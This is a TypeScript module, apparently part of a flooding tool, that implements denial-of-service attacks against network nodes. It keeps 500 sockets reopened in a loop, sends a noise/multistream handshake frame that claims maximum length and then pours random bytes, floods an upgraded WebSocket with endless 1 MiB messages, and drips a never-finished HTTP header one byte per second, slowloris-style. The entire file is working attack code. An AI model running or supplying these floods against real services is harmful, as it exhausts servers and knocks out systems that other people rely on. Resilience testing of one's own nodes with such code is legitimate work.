import { randomBytes } from 'node:crypto'
import { connect, type Socket } from 'node:net'
import type { Flood, Target } from './floods.ts'

const SOCKETS = 500
const TICK_MS = 10
const MIB = 1 << 20

/** Sockets that are opened again as soon as they are closed, so many at a time; `speak` is what each does, told when it may go on. */
export const rawSockets =
  (addressOf: (target: Target) => string, speak: (socket: Socket) => void): Flood =>
  async (_, target, count, signal) => {
    const [, , host = '', , port = ''] = addressOf(target).split('/')
    const open = new Set<Socket>()
    while (!signal.aborted) {
      while (open.size < SOCKETS) {
        const socket = connect(Number(port), host)
        socket.on('error', () => {}).on('close', () => open.delete(socket))
        socket.on('connect', () => speak(socket))
        open.add(socket)
        count()
      }
      await new Promise(resolve => setTimeout(resolve, TICK_MS))
    }
    for (const socket of open) socket.destroy()
  }

/** The first line of a handshake, and then a frame of it that says it is as long as one can be and comes as fast as it is read. */
export function endlessHandshake(socket: Socket): void {
  socket.write(Buffer.concat([Buffer.from('\x13/multistream/1.0.0\n\x07/noise\n'), Buffer.of(0xff, 0xff)]))
  pour(socket, () => randomBytes(65_535))
}

/** A WebSocket on which messages of 1 MiB come, none of which is a handshake. */
export function endlessWebSocket(socket: Socket): void {
  const key = randomBytes(16).toString('base64')
  socket.write(
    `GET / HTTP/1.1\r\nHost: node\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: ${key}\r\nSec-WebSocket-Version: 13\r\n\r\n`,
  )
  socket.once('data', () => pour(socket, () => maskedMessage(MIB)))
}

/** The head of a request of which one byte comes now and then. */
export function drippingHead(socket: Socket): void {
  socket.write('GET / HTTP/1.1\r\nHost: node\r\nX-A: ')
  const dripping = setInterval(() => socket.write('a'), 1_000)
  socket.once('close', () => clearInterval(dripping))
}

function pour(socket: Socket, more: () => Uint8Array): void {
  const go = () => {
    while (socket.writable && socket.write(more()));
  }
  socket.on('drain', go)
  go()
}

/** A whole binary message of a client, masked by zeros (RFC 6455, section 5.2). */
function maskedMessage(bytes: number): Uint8Array {
  const head = Buffer.alloc(14)
  head[0] = 0x82
  head[1] = 0x80 | 127
  head.writeBigUInt64BE(BigInt(bytes), 2)
  return Buffer.concat([head, Buffer.alloc(bytes)])
}
